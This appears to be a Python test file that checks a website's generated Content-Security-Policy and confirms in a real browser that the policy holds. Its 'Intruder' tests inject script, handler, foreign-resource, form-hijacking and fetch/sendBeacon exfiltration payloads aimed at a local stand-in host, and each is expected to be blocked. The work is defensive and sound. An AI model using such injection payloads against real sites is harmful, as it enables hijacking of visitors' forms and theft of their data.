"""The policy is generated, stands first, and the browser holds every page to it."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Route

from campaign.campaign import Campaign
from campaign.pages.policy import policy
from campaign.serve.practice import site_in
from campaign.serve.server import Request, Response, Server, running
from campaign.services import connections
from tests.blocks import BLOCKS, Block, with_forms
from tests.browser import NewPage
from tests.builds import built
from tests.built import Site
from tests.played import Played, played

PATIENCE = 100  # tenths of a second that a busy browser may take to say what it refused
REAL = [block for block in BLOCKS if block.service != "practice"]


def rules(text: str) -> dict[str, list[str]]:
    """Return a policy's directives with their sources."""
    parts = [part.split() for part in text.split(";")]
    return {name: sources for name, *sources in parts}


def policy_of(html: str) -> dict[str, list[str]]:
    """Return the policy that a page carries."""
    found = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', html)
    assert len(found) == 1
    return rules(found[0].replace("&#39;", "'"))


# What it says


def test_everything_is_forbidden_but_what_is_named(invented: Campaign) -> None:
    """The whole policy of a site whose forms reach nobody yet, word for word."""
    found = policy(connections(invented.site), ["a{}"], ["let b"])
    assert found == (
        "default-src 'none'; "
        "style-src 'self' 'sha256-X1RutGBrXCt9KkSaXMK7tHftWiRscFHOhxsS8tv8hBk='; "
        "script-src 'self' 'sha256-gZ7YtBHYJlXDIlfAddq5Sw/QYJv5E8tJmDWivVTn/60='; "
        "img-src 'self' data:; font-src 'self'; connect-src 'self'; manifest-src 'self'; worker-src 'self'; "
        "form-action 'self'; base-uri 'none'; require-trusted-types-for 'script'; trusted-types 'none'"
    )


@pytest.mark.parametrize("block", REAL, ids=lambda block: block.service)
def test_forms_may_go_to_their_service_and_back(block: Block, tmp_path: Path) -> None:
    """`form-action` names this site and the service's own host, with https and without a path."""
    facts = site_in(with_forms(tmp_path, sign_up=block.yaml))
    assert facts
    host = "/".join(block.address.split("/")[:3])
    assert rules(policy(connections(facts), [], []))["form-action"] == ["'self'", host]


def test_every_page_names_every_host_once(tmp_path: Path) -> None:
    """Hosts on the way back join, those of all forms together, each once; on each page of the site."""
    kit = "{service: kit, form: '1234567', redirect_hosts: [hop.example.org, app.kit.com]}"
    root = with_forms(tmp_path, sign_up=kit, contact="{service: formspree, form: abcdefgh}", suggest=kit)
    site = built(root, tmp_path / "site")
    sources = ("'self'", "https://app.kit.com", "https://hop.example.org", "https://formspree.io")
    assert {tuple(policy_of(page.source)["form-action"]) for page in site.pages.values()} == {sources}


def test_the_policy_comes_before_all_it_rules(site: Site) -> None:
    """On every page only the charset stands before the policy, within the first 1024 bytes; the referrer is cut."""
    first = re.compile(r'<!doctype html>\s*<html lang="en-US"[^>]*>\s*<head>\s*<meta charset="utf-8">\s*')
    for address, page in site.pages.items():
        head = page.source[: page.source.index("</head>")]
        before = head[: head.index("<meta http-equiv")]
        assert first.fullmatch(before), address
        assert len(before) < 1024, address
        assert '<meta name="referrer" content="strict-origin">' in head, address


def test_no_page_needs_what_the_policy_forbids(site: Site) -> None:
    """No page carries a handler or a style in an attribute, or a script in an address."""
    for address, page in site.pages.items():
        attributes = {name for element in page.all("*") for name in element.attrs}
        assert not {name for name in attributes if name.startswith("on") or name == "style"}, address
        assert not [link for link in page.links() if link.startswith("javascript:")], address


# What the browser does


@pytest.fixture(scope="module")
def practice(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Played]:
    """The site with every form going to the practice service."""
    with played(tmp_path_factory.mktemp("policy")) as site:
        yield site


def test_no_page_breaks_its_policy_or_says_an_error(practice: Played, new_page: NewPage) -> None:
    """Every page of the site loads without a word on the console and without a request to another host."""
    page = new_page()
    said: list[str] = []
    page.on("console", lambda message: said.append(f"{page.url}: {message.text}"))
    for file in sorted(practice.folder.rglob("*.html")):
        page.goto(f"{practice.address}/{file.relative_to(practice.folder).as_posix().removesuffix('index.html')}")
    assert not said


class Intruder:
    """Puts something into the sign-up page on its way to the browser, and listens at the host that would gain by it."""

    def __init__(self, site: Played, context: BrowserContext, gain: str, asked: list[str]) -> None:
        """Take the site, a browser context without the watch, and the other host with what it is asked for."""
        self.page, self.gain, self.asked = context.new_page(), gain, asked
        self.address, self.said = site.address + "/sign-up/", []
        self.page.on("console", lambda message: self.said.append(message.text))

    def put(self, html: str) -> Page:
        """Open the page with this HTML at the end of its main part."""

        def changed(route: Route) -> None:
            text = route.fetch().text()
            route.fulfill(body=text.replace("</main>", html + "</main>", 1), content_type="text/html; charset=utf-8")

        self.page.route(self.address, changed)
        self.page.goto(self.address)
        return self.page

    def blocked(self, directive: str) -> bool:
        """Return whether the browser said that this directive forbids it, and the other host heard nothing."""
        for _moment in range(PATIENCE):
            if any(directive in text for text in self.said):
                return not self.asked
            self.page.wait_for_timeout(100)
        return False


def _kind(path: str) -> str:
    """Return what the many pages of a kind have in common: the address above them, or what all are called."""
    above, own = path.rstrip("/").rpartition("/")[::2]
    return path if path.count("/") < 3 else own if own == "votes" else above


def test_no_kind_of_real_page_does_either(real_site: Site, served: Callable[[Path], str], new_page: NewPage) -> None:
    """The same on the real site: every text and list, and one of each kind of which there are many."""
    address, page = served(real_site.folder), new_page()
    said: list[str] = []
    page.on("console", lambda message: said.append(f"{page.url}: {message.text}"))
    kinds = {_kind(path): path for path in real_site.pages}
    for path in kinds.values():
        page.goto(address + path)
    assert len(kinds) > 15
    assert not said


@pytest.fixture
def intruder(practice: Played, browser: Browser) -> Iterator[Intruder]:
    """Somebody who can change a page but not the policy above."""
    asked: list[str] = []

    def answer(request: Request) -> Response:
        asked.append(request.path)
        return Response(200, {"Content-Type": "image/svg+xml"}, b"<svg xmlns='http://www.w3.org/2000/svg'/>")

    with running(Server(0, answer)) as gain, browser.new_context() as context:
        yield Intruder(practice, context, gain, asked)


def test_an_inline_script_does_not_run(intruder: Intruder) -> None:
    """A script put into the page is not run."""
    page = intruder.put("<script>window.ran = true</script>")
    assert intruder.blocked("script-src")
    assert page.evaluate("window.ran") is None


def test_an_inline_handler_does_not_run(intruder: Intruder) -> None:
    """Nor is a handler in an attribute."""
    page = intruder.put("<img src='data:,x' onerror='window.ran = true' alt=''>")
    assert intruder.blocked("script-src")
    assert page.evaluate("window.ran") is None


def test_a_script_of_another_host_is_not_loaded(intruder: Intruder) -> None:
    """The other host is not even asked."""
    intruder.put(f"<script src='{intruder.gain}/x.js'></script>")
    assert intruder.blocked("script-src")


def test_a_foreign_image_is_not_loaded(intruder: Intruder) -> None:
    """A picture that would count visitors is not asked for."""
    intruder.put(f"<img src='{intruder.gain}/pixel.svg' alt=''>")
    assert intruder.blocked("img-src")


@pytest.mark.parametrize(
    ("html", "directive"),
    [
        ("<iframe src='{}/frame'></iframe>", "frame-src"),
        ("<link rel=stylesheet href='{}/x.css'>", "style-src"),
        ("<style>@font-face{{font-family:x;src:url({}/x.woff2)}}</style>", "style-src"),
        ("<video src='{}/x.mp4' autoplay muted></video>", "media-src"),
        ("<object data='{}/x.svg'></object>", "object-src"),
        ("<base href='{}/'>", "base-uri"),
    ],
)
def test_nothing_else_of_another_host_gets_in(intruder: Intruder, html: str, directive: str) -> None:
    """Frames, styles, fonts, films, plug-ins and another base address are refused."""
    intruder.put(html.format(intruder.gain))
    assert intruder.blocked(directive)


def test_a_form_with_another_action_is_not_sent(intruder: Intruder) -> None:
    """A form that would send what people type elsewhere stays where it is."""
    page = intruder.put(
        f"<form method=post action='{intruder.gain}/take'><input name=email><button>Free</button></form>"
    )
    page.get_by_role("button", name="Free").click(no_wait_after=True)
    assert intruder.blocked("form-action")
    assert page.url == intruder.address


def test_a_button_cannot_send_the_real_form_elsewhere(intruder: Intruder) -> None:
    """A button that borrows the sign-up form is bound by the same rule."""
    page = intruder.put(f"<button form=taken formnovalidate formaction='{intruder.gain}/take'>Free</button>")
    page.evaluate("document.querySelector('form').id = 'taken'")
    page.get_by_label("Email", exact=True).fill("sam@home.example")
    page.get_by_label("ZIP code").fill("55155")
    page.get_by_role("button", name="Free").click(no_wait_after=True)
    assert intruder.blocked("form-action")


def test_html_cannot_be_written_from_text(intruder: Intruder) -> None:
    """InnerHTML and its kin throw: no script on the site can turn text into HTML."""
    page = intruder.put("<div id=box></div>")
    write = "html => { try { box.innerHTML = html; return 'written' } catch (error) { return error.name } }"
    assert page.evaluate(write, "<img src=x>") == "TypeError"
    assert page.evaluate("try { document.write('x') } catch (error) { error.name }") == "TypeError"
    assert page.evaluate("try { trustedTypes.createPolicy('own', {}) } catch (error) { error.name }") == "TypeError"


def test_a_script_cannot_tell_another_host(intruder: Intruder) -> None:
    """Even a script that ran could not send anything away."""
    page = intruder.put("")
    told = page.evaluate(
        "url => fetch(url, {method: 'POST', body: 'x'}).then(() => 'sent', () => 'refused')", intruder.gain
    )
    assert told == "refused"
    assert page.evaluate("url => navigator.sendBeacon(url, 'x') || true", intruder.gain)
    assert intruder.blocked("connect-src")
